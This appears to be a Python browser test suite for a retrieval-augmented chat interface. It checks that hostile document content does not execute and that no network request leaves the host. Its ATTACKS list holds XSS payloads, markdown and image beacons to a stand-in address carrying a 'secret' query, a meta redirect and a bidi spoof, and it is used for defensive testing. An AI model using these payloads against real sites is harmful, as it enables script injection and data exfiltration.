"""Hostile documents, names and questions in a real browser: nothing runs, nothing is fetched."""

from collections.abc import Callable
from urllib.parse import urlsplit

from browsing import Open, Scripted
from scripted import LENGTH

from index.types import Document
from rag.types import Answer, Citation, Claim, Disagreement

ATTACKS = (
    "<img src=x onerror=\"window.hacked='img'\">",
    "<script>window.hacked='script'</script>",
    "<svg onload=\"window.hacked='svg'\"></svg>",
    "<a href=\"javascript:window.hacked='link'\">press</a>",
    '<img src="http://192.0.2.1/leak.png">',
    "![](http://192.0.2.1/?q=secret)",
    '<form action="http://192.0.2.1"><input autofocus onfocus="window.hacked=1"></form>',
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.1">',
    "\u202eforged [1] \u2066",
    "'\"></mark></blockquote><style>body{display:none}</style>",
)
FORBIDDEN = "img, script, svg[onload], style, form, input, meta, iframe, a:not([href^='#']), [onerror], [onfocus]"


def test_no_request_leaves_the_host(visit: Open, address: str) -> None:
    opened = visit(address)
    opened.ask(LENGTH)
    opened.page.locator("#conversation .cite").first.click()
    opened.page.locator(".card.lit").wait_for()
    opened.page.wait_for_load_state("load")
    assert len(opened.requests) > 5
    hosts = {urlsplit(request).netloc for request in opened.requests if not request.startswith(("data:", "blob:"))}
    assert hosts == {urlsplit(address).netloc}


def test_a_hostile_documents_script_does_not_run(
    visit: Open,
    address: str,
    script: Scripted,
    make_document: Callable[..., Document],
    make_citation: Callable[..., Citation],
    make_answer: Callable[..., Answer],
) -> None:
    attack = " ".join(ATTACKS)
    document = make_document(f"{attack}\nQuote {attack}\n{attack}", path=f"{attack}.txt", title=attack, language="en")
    citation = make_citation(document, f"Quote {attack}")
    differ = Disagreement(attack, (Claim(attack, citation), Claim("other", citation)))
    script.script[attack] = make_answer(citation, question=attack, disagreements=(differ,))
    opened = visit(address, locale="en", width=390)
    page = opened.page
    opened.ask(attack)
    page.locator("#conversation .cite").first.hover()
    page.locator("#tip").wait_for()
    page.locator("#conversation .cite").first.click()
    page.locator(".card.lit").wait_for()
    assert page.locator(".card mark").inner_text() == f"Quote {attack}"
    page.locator("#menu").click()
    page.locator(".talk .title").wait_for()
    assert page.evaluate("window.hacked") is None
    pieces = page.locator("#transcript, #sources, #list, #tip")
    assert pieces.locator(FORBIDDEN).count() == 0
    assert not [request for request in opened.requests if "192.0.2.1" in request]
    assert opened.complaints == []
    assert opened.overflow() <= 0
